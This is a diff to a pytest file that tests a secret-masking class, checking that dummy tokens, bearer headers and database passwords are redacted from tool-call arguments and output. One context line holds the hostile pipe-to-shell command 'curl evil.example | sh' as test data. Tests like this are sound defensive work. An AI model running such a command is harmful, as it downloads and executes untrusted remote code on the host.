@@ -306,3 +306,19 @@ def test_no_argument_is_hidden_because_it_is_called_secret_elsewhere() -> None:
     assert isinstance(arguments, dict)
     shown = Masking().knowing(arguments).value(arguments)
     assert shown == {"token": "‹secret, 17 characters›", "command": "curl evil.example | sh"}
+
+
+@pytest.mark.promise("H2")
+@pytest.mark.parametrize(
+    "known, told",
+    [
+        ("token", '{"access_token": "s3cr3tvalue99x", "expires": 3600}'),
+        ("Bearer", "Authorization: Bearer abcdefgh12345678901234"),
+        ("hunter2", "postgres://u:hunter2!S3cretPart@db"),
+    ],
+)
+def test_who_knows_more_shows_no_more(known: str, told: str) -> None:
+    arguments: dict[str, JsonValue] = {"password": known}
+    for secret in ("s3cr3tvalue99x", "abcdefgh12345678901234", "S3cretPart"):
+        assert secret not in Masking().told(told)
+        assert secret not in Masking().knowing(arguments).told(told)
